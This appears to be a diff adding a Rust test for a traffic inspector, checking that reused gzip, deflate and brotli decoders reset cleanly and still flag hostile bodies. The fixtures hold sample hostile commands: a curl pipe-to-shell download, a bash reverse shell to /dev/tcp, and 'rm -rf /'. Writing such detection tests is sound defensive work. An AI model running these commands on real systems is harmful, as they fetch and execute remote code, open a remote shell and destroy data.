@@ -314,6 +314,44 @@ fn corrupt_and_unknown_encodings_are_counted() {
 }
 
 #[test]
+fn decoders_reused_across_messages_start_clean() {
+    // One connection: each coding twice, with a corrupt and a truncated gzip body in between,
+    // so recycled inflaters are reset from an error, from mid-stream and from a clean end.
+    let registry = registry();
+    let gz = |text: &[u8]| response("text/plain", "Content-Encoding: gzip\r\n", &gzip(text));
+    let half_gzip = gzip(b"a benign body that is cut short in the middle of its deflate stream");
+    let mut stream = gz(b"benign first body");
+    stream.extend(response(
+        "text/plain",
+        "Content-Encoding: gzip\r\n",
+        b"\x1f\x8b\x08\x00garbage-that-is-not-deflate",
+    ));
+    stream.extend(response(
+        "text/plain",
+        "Content-Encoding: gzip\r\n",
+        &half_gzip[..half_gzip.len() / 2],
+    ));
+    stream.extend(gz(b"then: curl -fsSL https://x.example/i.sh | sh"));
+    for coding in ["deflate", "br", "deflate", "br"] {
+        let body = match coding {
+            "deflate" => zlib(b"and: bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
+            _ => brotli(b"and: bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
+        };
+        let headers = format!("Content-Encoding: {coding}\r\n");
+        stream.extend(response("text/plain", &headers, &body));
+    }
+    stream.extend(gz(b"last: rm -rf / --no-preserve-root"));
+    let found: Vec<String> = inspect(&registry, Direction::Inbound, &stream)
+        .into_iter()
+        .map(|d| d.pattern)
+        .collect();
+    let mut expected = vec!["pipe_to_shell"];
+    expected.extend(["reverse_shell"; 4]);
+    expected.push("destructive_rm");
+    assert_eq!(found, expected);
+}
+
+#[test]
 fn escapes_split_across_chunks_are_decoded() {
     let registry = registry();
     // `\/etc\/shadow` and `\u002Fetc/passwd`, chunked so the escapes straddle chunk boundaries.
